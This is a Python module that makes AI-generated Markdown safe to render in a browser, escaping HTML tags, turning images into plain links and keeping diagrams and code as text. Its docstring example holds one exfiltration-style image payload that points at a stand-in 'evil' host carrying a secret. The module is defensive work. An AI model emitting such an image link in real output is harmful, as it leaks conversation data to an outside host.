"""Markdown of a model made harmless before a browser sees it: no HTML, no images.

harmless("![x](http://evil/?secret) <img src=y>")  # '[x](http://evil/?secret) &lt;img src=y>'

An image's address is asked for as soon as it is shown, so it could carry a conversation away; as a
link it waits for a person. Code keeps every character. What this misses meets the page's sanitiser
and its content policy, which lets nothing from outside in.
"""

import re

_FENCE = re.compile(r"^[ \t>]*(?:[-*+]\s+|\d+[.)]\s+)*(`{3,}|~{3,})(.*)$")
_TICKS = re.compile(r"`+")
_TAG = re.compile(r"<(?=[A-Za-z/!?])")
_IMAGE = re.compile(r"!+(?=\[)")
_AUTOLINK = re.compile(r"<(https?://[^\s<>]+)>")
_MERMAID = re.compile(r"^(\s*)mermaid\b", re.IGNORECASE)


def harmless(text: str) -> str:
    """Return Markdown whose HTML shows as text and whose images are links."""
    parts: list[str] = []
    prose: list[str] = []
    fence = ""
    for line in text.splitlines(keepends=True):
        match = _FENCE.match(line.rstrip("\r\n"))
        if fence:
            parts.append(line)
            if match and match[1].startswith(fence) and not match[2].strip():
                fence = ""
        elif match and not (match[1][0] == "`" and "`" in match[2]):
            parts += [_prose("".join(prose)), _opening(line, match)]
            prose, fence = [], match[1]
        else:
            prose.append(line)
    return "".join([*parts, _prose("".join(prose))])


def fenced(text: str, language: str = "") -> str:
    """Return text in a fence that nothing in it can close."""
    longest = max((len(run) for run in re.findall(r"`{3,}", text)), default=2)
    fence = "`" * (longest + 1)
    ending = "" if text.endswith("\n") else "\n"
    return f"{fence}{language}\n{text}{ending}{fence}"


def _opening(line: str, match: re.Match[str]) -> str:
    """Return a fence's first line; diagrams, which the page would draw, stay code."""
    return line[: match.start(2)] + _MERMAID.sub(r"\1text", match[2]) + line[match.end(2) :]


def _prose(text: str) -> str:
    """Return text outside of fences, code spans left as they are."""
    parts: list[str] = []
    at = 0
    while opening := _TICKS.search(text, at):
        closing = next(
            (run for run in _TICKS.finditer(text, opening.end()) if run[0] == opening[0]), None
        )
        is_span = closing is not None and "\n\n" not in text[opening.end() : closing.start()]
        end = closing.end() if is_span and closing is not None else opening.end()
        parts += [_plain(text[at : opening.start()]), text[opening.start() : end]]
        at = end
    return "".join([*parts, _plain(text[at:])])


def _plain(text: str) -> str:
    text = _AUTOLINK.sub(r"[\1](\1)", text)
    return _IMAGE.sub("", _TAG.sub("&lt;", text))
